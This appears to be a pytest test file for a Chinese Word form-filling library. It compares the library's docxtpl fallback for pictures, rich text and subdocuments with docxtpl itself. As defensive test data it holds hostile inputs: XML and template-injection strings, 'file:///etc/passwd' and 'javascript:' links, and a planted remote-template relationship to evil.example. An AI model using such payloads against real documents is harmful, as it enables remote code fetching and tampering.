"""What is more than text is filled by docxtpl itself, and every promise of a compiled template holds all the same."""

from __future__ import annotations

import hashlib
import io
import os
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.enum.section import WD_SECTION
from formkit import (
    IDENTITY,
    SAMPLE_FORM,
    Sample,
    add_footnote,
    add_part,
    add_table,
    all_text,
    canonical,
    check,
    compiled,
    edit,
    errors,
    fill_with_docxtpl,
    make_docx,
    paragraphs,
    rezip,
    tables,
    unzip,
)
from lxml import etree
from pydantic import ValidationError
from richkit import (
    RICH_FORM,
    Guest,
    RichSample,
    count_pictures,
    draw,
    fill_rich_with_docxtpl,
    rich_values,
    write_report,
)
from test_docxtpl_equality import CASES, DATA, plain_values

from pingyi import Listing, Paragraph, Picture, RichParagraphs, RichText, Run, Settings, Subdocument
from pingyi.errors import RenderError
from pingyi.forms import CompiledTemplate, read_package, read_text
from pingyi.forms.checking.template import list_rich_tags
from pingyi.forms.filling.fallback import FallbackTemplate
from pingyi.forms.privacy.leaks import find_leaks
from pingyi.forms.word.package import Package

FEATURES: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
    "rich_text": (lambda: paragraphs("前{{r note }}后，{{ name }}"), ("note",)),
    "rich_text_or_nothing": (lambda: paragraphs("{{r note if name else '' }}{% if note %}有{% endif %}"), ("note",)),
    "rich_text_in_a_cell": (lambda: tables(("评语", "{{r note }}"), ("{% colspan span %}{{ name }}", "x")), ("note",)),
    "rich_paragraphs": (lambda: paragraphs("前", "{{p notes }}", "后"), ("notes",)),
    "rich_paragraphs_in_a_cell": (
        lambda: tables(
            ("说明", "{{p notes }}"),
        ),
        ("notes",),
    ),
    "listing": (lambda: paragraphs("清单：{{ listing }}。"), ("listing",)),
    "picture": (lambda: paragraphs("{{ name }} {{ photo }}", "再一次 {{ photo }}"), ("photo",)),
    "picture_in_a_cell": (lambda: tables(("照片", "{{ photo }}")), ("photo",)),
    "pictures_in_a_loop": (
        lambda: tables(
            ("{%tr for guest in guests %}", ""), ("{{ guest.name }}", "{{ guest.photo }}"), ("{%tr endfor %}", "")
        ),
        ("guests",),
    ),
    "document": (lambda: paragraphs("前", "{{p report }}", "后 {{ name }}"), ("report",)),
    "document_twice": (lambda: paragraphs("{{p report }}", "{{ name }}", "{{p report }}"), ("report",)),
    "everything": (
        lambda: paragraphs("{{p report }}", "{{ photo }}{{ listing }}{{r note }}", "{{p notes }}", "{{ name }}"),
        ("photo", "listing", "note", "notes", "report"),
    ),
}


def rich(content: bytes) -> CompiledTemplate:
    template = compiled(content, RICH_FORM)
    assert isinstance(template, FallbackTemplate)
    return template


def fill_rich(content: bytes, **values: Any) -> bytes:
    return rich(content).render(RichSample(**values), IDENTITY)


def same_parts(ours: bytes, theirs: bytes) -> list[str]:
    """The parts that are in both, after making sure that they are equal."""
    mine, other = unzip(ours), unzip(theirs)
    names = sorted(name for name in other if name.startswith("word/") and name in mine)
    for name in names:
        if name.endswith(".rels"):  # we leave a part for old versions of Word out
            assert relations(mine[name]) == {item for item in relations(other[name]) if "WithEffects" not in item[1]}
        elif name.endswith(".xml"):
            assert comparable(mine[name]) == comparable(other[name]), name
        else:
            assert mine[name] == other[name], name
    assert {name for name in other if "/media/" in name} <= set(names)
    return names


def relations(rels: bytes) -> set[tuple[str, str]]:
    return {(str(item.get("Id")), str(item.get("Target"))) for item in etree.fromstring(rels)}


def comparable(xml: bytes) -> str:
    """Without the signs of lists, which docxcompose draws by lot."""
    text = canonical(xml)
    return "".join(piece for piece in text.split("<") if not piece.startswith("w:nsid"))


@pytest.mark.parametrize("name", FEATURES)
def test_parts_equal_those_of_docxtpl(name: str) -> None:
    build, fields = FEATURES[name]
    template, values = build(), rich_values()
    ours = fill_rich(template, **values)
    assert "word/document.xml" in same_parts(ours, fill_rich_with_docxtpl(template, values, *fields))
    assert not errors(template, RICH_FORM)


@pytest.mark.parametrize("values", ["present", "hostile"])
@pytest.mark.parametrize("name", CASES)
def test_plain_features_equal_docxtpl_when_docxtpl_fills_them(name: str, values: str) -> None:
    template, data = CASES[name](), DATA[values]
    ours = unzip(force(template).render(data, IDENTITY))
    theirs = unzip(fill_with_docxtpl(template, plain_values(data)))
    assert ours.keys() >= {"word/document.xml", "docProps/custom.xml"}
    for part in theirs:
        if part.startswith("word/") and part in ours and part.endswith(".xml"):
            assert canonical(ours[part]) == canonical(theirs[part]), part


@pytest.mark.parametrize("name", ["headers_and_footers", "footnotes", "bookmarks", "rows", "background"])
def test_both_ways_make_the_same_document(name: str) -> None:
    template, data = CASES[name](), DATA["hostile"]
    ours, theirs = unzip(force(template).render(data, IDENTITY)), unzip(compiled(template).render(data, IDENTITY))
    assert ours.keys() == theirs.keys()
    for part in ours:
        if part.endswith(".xml") and part != "[Content_Types].xml":
            assert canonical(ours[part]) == canonical(theirs[part]), part


def force(content: bytes) -> FallbackTemplate:
    """A plain template, filled by docxtpl all the same."""
    return FallbackTemplate(read_package(content, "sample.docx"), content, SAMPLE_FORM, "0123", Settings().forms.empty)


def test_links_lead_out_of_the_body() -> None:
    note = RichText(runs=(Run(text="网址", link="https://example.edu.cn/?a=1&b=2"),))
    values = {**rich_values(), "note": note}
    template = paragraphs("见{{r note }}")
    same_parts(fill_rich(template, **values), fill_rich_with_docxtpl(template, values, "note"))
    header = make_docx(lambda document: setattr(document.sections[0].header.paragraphs[0], "text", "{{r note }}"))
    with pytest.raises(RenderError, match=r"“note”: a link can stand in the text only"):
        fill_rich(header, note=note)


def test_pictures_stand_in_headers_and_documents_do_not() -> None:
    def build(text: str) -> bytes:
        return make_docx(lambda document: setattr(document.sections[0].header.paragraphs[0], "text", text))

    values = rich_values()
    template = build("{{ photo }}")
    parts = same_parts(fill_rich(template, **values), fill_rich_with_docxtpl(template, values, "photo"))
    assert any("/media/" in part for part in parts)
    assert [item.code for item in errors(build("{{p report }}"), RICH_FORM)] == ["trial-failed"]
    note = add_footnote(paragraphs("x"), "{{ photo }}")
    assert "cannot stand in a footnote" in errors(note, RICH_FORM)[0].message


def test_missing_values_print_nothing() -> None:
    template = paragraphs("[{{ photo }}{{ listing }}{{r note }}]", "{{p notes }}", "{{p report }}", "{{ name }}")
    assert all_text(fill_rich(template, name="张三")).strip() == "[]\n张三"


HOSTILE = '<w:p>&amp;"引\'号" {{ 7*7 }} {% x %} {# y #} {_{ name }_} {_% x %_}'


def test_hostile_text_beside_formatted_text_is_printed_as_it_is() -> None:
    def build(document: Any) -> None:
        document.add_paragraph("{{r note }}")
        document.add_paragraph("{{ name }}")
        document.add_paragraph("{{ listing }}")
        document.add_section(WD_SECTION.NEW_PAGE)
        document.sections[0].header.paragraphs[0].text = "{{ name }}"

    template = add_footnote(make_docx(build), "{{ name }}")
    made = fill_rich(template, name=HOSTILE, note=RichText(runs=(Run(text=HOSTILE),)), listing=Listing(text=HOSTILE))
    lines = [text for text in read_text(made).values() if HOSTILE in text]
    assert all_text(made).count(HOSTILE) == 5, "three paragraphs, and the header of both sections"
    assert len(lines) == 3, "body, header and footnotes"


def test_a_text_cannot_pretend_to_be_markup() -> None:
    class Markup(str):
        __slots__ = ()

        def __html__(self) -> str:
            return "<w:r><w:t>伪造</w:t></w:r>"

    data = RichSample(note=RichText(runs=(Run(text="x"),))).model_copy(update={"name": Markup("<w:b/>")})
    assert all_text(rich(paragraphs("{{r note }}", "{{ name }}")).render(data, IDENTITY)).strip() == "x\n<w:b/>"


@pytest.mark.parametrize("field", ["style", "language"])
def test_names_of_styles_and_fonts_cannot_carry_markup(field: str) -> None:
    run = Run.model_validate({"text": "x", field: '"/><w:vanish/><w:x w:val="'})
    made = unzip(fill_rich(paragraphs("{{r note }}"), note=RichText(runs=(run,))))
    assert b"<w:vanish" not in made["word/document.xml"]


@pytest.mark.parametrize(
    "values",
    [
        {"colour": '"/><w:vanish/>'},
        {"highlight": "red"},
        {"size": 0},
        {"font": '"/><w:vanish/><w:x w:val="'},
        {"font": "ascii:Arial"},
        {"underline": "x"},
        {"link": "file:///etc/passwd"},
        {"link": "javascript:alert(1)"},
    ],
)
def test_impossible_looks_are_refused_when_they_are_made(values: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        Run.model_validate({"text": "x", **values})


@pytest.mark.parametrize(
    "value",
    [
        {"note": RichText(runs=(Run(text="a\x00b"),))},
        {"notes": RichParagraphs(paragraphs=(Paragraph(runs=(), style="\ud800"),))},
        {"listing": Listing(text="a\x0bb")},
    ],
)
def test_unprintable_characters_are_refused_by_label(value: dict[str, Any]) -> None:
    template = paragraphs("{{r note }}{{ listing }}", "{{p notes }}")
    with pytest.raises(RenderError, match=r"(评语|说明|清单): character number \d is U\+"):
        fill_rich(template, **value)


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xda\x00\x08"


@pytest.mark.parametrize(
    "content", [b"", b"no picture", draw()[:20], draw()[:-20], JPEG, b"GIF89a\x01\x00\x01\x00", b"%PDF-1.7"]
)
def test_a_broken_picture_costs_one_document(content: bytes) -> None:
    template = rich(tables(("照片", "{{ photo }}")))
    with pytest.raises(RenderError, match="“photo” is no picture that Word can show") as caught:
        template.render(RichSample(photo=Picture(content=content)), IDENTITY)
    assert "PNG" in caught.value.cure
    assert count_pictures(template.render(RichSample(photo=Picture(content=draw())), IDENTITY)) == 1


def linked(content: bytes) -> bytes:
    parts = unzip(content)
    rels = "word/_rels/document.xml.rels"
    link = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return rezip({**parts, rels: parts[rels].replace(b"</Relationships>", link)})


def noted(text: str) -> bytes:
    return add_footnote(paragraphs("x"), text)


PROGRAM = "application/vnd.openxmlformats-officedocument.oleObject"


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"no document", "report"),
        (b"", "report"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "report"),
        (write_report()[:400], "report"),
        (linked(paragraphs("x")), "fetches http://evil.example/x.dotm"),
        (add_part(paragraphs("x"), "word/o.xml", "<x/>", "oleObject", PROGRAM), "program"),
        (edit(paragraphs("@"), "word/document.xml", ("<w:r><w:t>@", "<w:ins/><w:r><w:t>@")), "tracked change"),
        (noted("{{ name }}"), "a footnote of the document holds a tag"),
    ],
)
def test_a_subdocument_that_is_none_or_brings_harm_costs_one_document(content: bytes, words: str) -> None:
    template = rich(paragraphs("{{p report }}"))
    with pytest.raises(RenderError) as caught:
        template.render(RichSample(report=Subdocument(content=content)), IDENTITY)
    assert words in caught.value.message
    assert caught.value.cure
    assert "附件一" in all_text(template.render(RichSample(report=Subdocument(content=write_report())), IDENTITY))


def test_tags_in_a_subdocument_are_text() -> None:
    made = fill_rich(paragraphs("{{p report }}"), name="张三", report=Subdocument(content=write_report()))
    assert "{{ name }}" in all_text(made)


def test_a_filled_form_can_be_a_subdocument_and_keeps_its_identity_for_itself() -> None:
    inner = compiled(paragraphs("内页 {{ name }}")).render(Sample(name="李四"), replace(IDENTITY, subject="member:999"))
    made = fill_rich(paragraphs("{{p report }}"), report=Subdocument(content=inner))
    assert "内页 李四" in all_text(made)
    assert b"member:999" not in b"".join(unzip(made).values())


def test_namespaces_the_template_lacks_come_along() -> None:
    wp = ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    template = edit(paragraphs("{{p report }}"), "word/document.xml", (wp, ""))
    assert count_pictures(fill_rich(template, **rich_values())) == 1


def test_a_document_that_is_not_printed_is_not_carried() -> None:
    template = paragraphs("{%p if present %}", "{{p report }}", "{{ photo }}", "{%p endif %}", "x")
    made = unzip(fill_rich(template, report=Subdocument(content=write_report()), photo=Picture(content=draw(9, 9))))
    assert not [name for name in made if "/media/" in name]
    assert "附件正文" not in made["word/styles.xml"].decode()


def test_the_identity_and_nobody_s_name_are_in_the_properties() -> None:
    def build(document: Any) -> None:
        document.core_properties.author, document.core_properties.title = "谁", "登记表 {{ name }}"
        document.add_paragraph("{{ photo }}")

    parts = unzip(fill_rich(make_docx(build), **rich_values()))
    for key, value in IDENTITY.properties().items():
        assert key in parts["docProps/custom.xml"].decode()
        assert value in parts["docProps/custom.xml"].decode()
    assert "谁" not in parts["docProps/core.xml"].decode()
    assert "<dc:title>登记表 张三</dc:title>" in parts["docProps/core.xml"].decode()
    assert "docProps/thumbnail.jpeg" not in parts


def test_private_values_inside_pictures_and_documents_are_found() -> None:
    from pingyi.forms.privacy.protected import Protected

    secret = Protected("身份证号", (b"110101199001011234",))
    report = write_report(lambda document: document.add_paragraph("110101199001011234"))
    made = fill_rich(paragraphs("{{p report }}"), report=Subdocument(content=report))
    assert [item.code for item in find_leaks(made, [secret])] == ["private-value"]


SCRIPT = """
import hashlib, sys
sys.path.insert(0, {folder!r})
from formkit import IDENTITY, compiled
from richkit import RICH_FORM, RichSample, rich_values
from test_docxtpl_fallback import FEATURES
made = compiled(FEATURES["everything"][0](), RICH_FORM).render(RichSample(**rich_values()), IDENTITY)
print(hashlib.sha256(made).hexdigest())
"""


@pytest.mark.slow
def test_the_same_bytes_in_every_process() -> None:
    values = rich_values()
    sums = set()
    for seed in ("1", "2"):
        script = SCRIPT.format(folder=str(Path(__file__).parent))
        environment = {**os.environ, "PYTHONHASHSEED": seed}
        command = [sys.executable, "-c", script]
        done = subprocess.run(command, capture_output=True, text=True, env=environment, check=True)
        sums.add(done.stdout.strip())
    assert len(sums) == 1
    template = rich(FEATURES["everything"][0]())
    data = RichSample(**values)
    with ThreadPoolExecutor(4) as pool:
        made = set(pool.map(lambda _number: template.render(data, IDENTITY), range(8)))
    assert len({hashlib.sha256(content).hexdigest() for content in made}) == 1


def test_one_document_leaves_no_trace_in_the_next() -> None:
    template = rich(paragraphs("{{ name }}{{ photo }}", "{{p report }}"))
    clean = template.render(RichSample(name="李四"), IDENTITY)
    full = RichSample(name="张三", photo=Picture(content=draw()), report=Subdocument(content=write_report()))
    template.render(full, IDENTITY)
    with pytest.raises(RenderError):
        template.render(RichSample(name="王五", photo=Picture(content=b"x")), IDENTITY)
    assert template.render(RichSample(name="李四"), IDENTITY) == clean


def test_cells_are_mended_and_bookmarks_numbered() -> None:
    def build(document: Any) -> None:
        add_table(document, ("{%p if present %}", "{{ photo }}"))
        document.tables[0].rows[0].cells[0].add_paragraph("x")
        document.tables[0].rows[0].cells[0].add_paragraph("{%p endif %}")
        document.add_paragraph("{%p for guest in guests %}")
        document.add_paragraph("@")
        document.add_paragraph("{%p endfor %}")

    mark = '<w:bookmarkStart w:id="7" w:name="m{{ loop.index }}"/><w:bookmarkEnd w:id="7"/><w:r><w:t>'
    template = edit(make_docx(build), "word/document.xml", ("<w:r><w:t>@", mark))
    made = unzip(fill_rich(template, guests=(Guest(), Guest())))["word/document.xml"].decode()
    assert '<w:bookmarkStart w:id="1"' in made
    assert '<w:bookmarkStart w:id="2"' in made
    assert "<w:p/></w:tc>" in made


@pytest.mark.parametrize(
    "text",
    [
        "{{ note }}",
        "{{r notes }}",
        "{{p note }}",
        "{{r photo }}",
        "{{ report }}",
        "{{r name }}",
        "{{p name }}",
        "{{r 'x' }}",
        "{{r note ~ name }}",
        "{{ note if present else name }}",
        "{{p listing }}",
    ],
)
def test_a_tag_of_another_kind_than_its_value_is_refused(text: str) -> None:
    (problem,) = errors(paragraphs("x", text), RICH_FORM)
    assert problem.code == "tag-object"
    assert problem.value == text
    assert problem.cure


def test_loops_and_defaults_are_followed() -> None:
    template = tables(
        ("{%tr for guest in guests %}", ""),
        ("{{ guest.name }}", "{{ guest.photo|default('') }}{{ (guests|first).photo }}{{ guests[0].photo }}"),
        ("{%tr endfor %}", ""),
    )
    assert not errors(template, RICH_FORM)
    assert errors(paragraphs("{%p for guest in guests %}", "{{r guest.photo }}", "{%p endfor %}"), RICH_FORM)


def test_values_that_are_more_than_text_are_no_part_of_a_text() -> None:
    for text in ("{{ photo ~ name }}", "{{ guests|join('、') }}", "{{ [photo]|join }}"):
        assert {item.code for item in errors(paragraphs("x", text), RICH_FORM)} <= {"trial-failed", "tag-object"}
        assert errors(paragraphs("x", text), RICH_FORM)


def test_a_template_that_prints_text_alone_is_compiled() -> None:
    assert not isinstance(compiled(paragraphs("{{ name }}"), RICH_FORM), FallbackTemplate)


def test_the_tags_that_need_docxtpl_are_named() -> None:
    from formkit import source

    template = paragraphs("{{ name }}{{ photo }}", "{{p report }}", "{{ photo }}")
    assert list_rich_tags(source(template, RICH_FORM)) == ("{{ photo }} (Picture)", "{{p report }} (Subdocument)")
    assert list_rich_tags(source(paragraphs("{{ name }}"), RICH_FORM)) == ()


def test_a_template_is_still_no_program() -> None:
    for text in ("{{ photo.content }}", "{{ photo.__class__ }}", "{{ photo() }}", "{{ _filling }}"):
        assert errors(paragraphs("{{ photo }}", text), RICH_FORM), text


def test_loops_are_counted() -> None:
    template = rich(paragraphs("{{ photo }}{% for a in words %}{% for b in words %}x{% endfor %}{% endfor %}"))
    with pytest.raises(RenderError, match="far too long"):
        template.render(RichSample(words=("x",) * 1000), IDENTITY)


def test_values_survive_json() -> None:
    data = RichSample(**rich_values())
    assert RichSample.model_validate_json(data.model_dump_json()) == data


def test_the_result_is_whole_for_python_docx() -> None:
    document = Document(io.BytesIO(fill_rich(FEATURES["everything"][0](), **rich_values())))
    assert len(document.inline_shapes) == 2
    package: Package = read_package(fill_rich(FEATURES["everything"][0](), **rich_values()), "x")
    assert not [name for name in package.parts if name.endswith(".bin")]
    assert check(FEATURES["everything"][0](), RICH_FORM) is not None
